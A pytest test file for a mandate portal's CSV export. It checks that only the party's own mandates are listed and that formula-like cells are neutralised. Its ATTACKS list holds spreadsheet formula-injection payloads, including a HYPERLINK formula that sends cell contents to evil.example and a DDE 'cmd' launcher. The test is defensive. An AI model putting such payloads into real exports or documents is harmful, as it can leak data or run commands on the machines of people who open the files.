"""The export of a party's mandates: its own mandates only, every formula-like cell neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from idp.portal.csv_format import neutralise
from mandate_resolver.registry.authority import Actor
from mandate_resolver.registry.demo import DemoWorld
from mandate_resolver.registry.lifecycle import MandateService
from mandate_resolver.registry.models import Party, User
from tests.idp.portal_bulk.bulk_support import make_organisations
from tests.portal_support import DEMO_TODAY, enter, sign_in

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize(("cell", "expected"), [("=1", "'=1"), ("EMM-001", "EMM-001"), ("", ""), ("a=b", "a=b")])
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_export_lists_my_mandates_with_formulas_neutralised(
    demo: DemoWorld, client: FlaskClient, session: Session
) -> None:
    sammy = session.scalar(select(User).where(User.username == "sammy"))
    emmaus = session.scalar(select(Party).where(Party.name == "Emmaüs"))
    assert sammy is not None and emmaus is not None
    service = MandateService(session)
    for n, (reference, party) in enumerate(zip(ATTACKS, make_organisations(session, len(ATTACKS)), strict=True)):
        service.create_mandate(
            Actor.from_user(sammy),
            emmaus.id,
            role="mandator",
            counterparty=party.id,
            mandate_type_code="wse_loket",
            valid_from=DEMO_TODAY + dt.timedelta(days=n + 1),
            reference=reference.replace("\t", " ").replace("\r", " ") if n >= 4 else reference,
            accept_contract=True,
        )
    service.commit()
    sign_in(client, "sammy")
    enter(client, "Emmaüs")
    response = client.get("/portal/bulk/export.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Cache-Control"] == "no-store"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeffnumber;id;status;role;counterparty")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    references = {row["reference"] for row in rows}
    assert "'" + ATTACKS[0] in references and ATTACKS[0] not in references
    for attack in ATTACKS[1:4]:
        assert "'" + attack in references
    # Not one cell of the file starts a formula.
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
    # Emmaüs's own mandates only, each from its side, numbers as printed.
    assert all(row["role"] in ("mandator", "mandatee") for row in rows)
    assert "IMEC" not in text and "Interuniversitair" not in text
    barocy = [row for row in rows if row["reference"] == "EMM-WSE-001"]
    assert barocy and barocy[0]["counterparty"] == "BE 0806.154.033" and barocy[0]["status"] == "active"
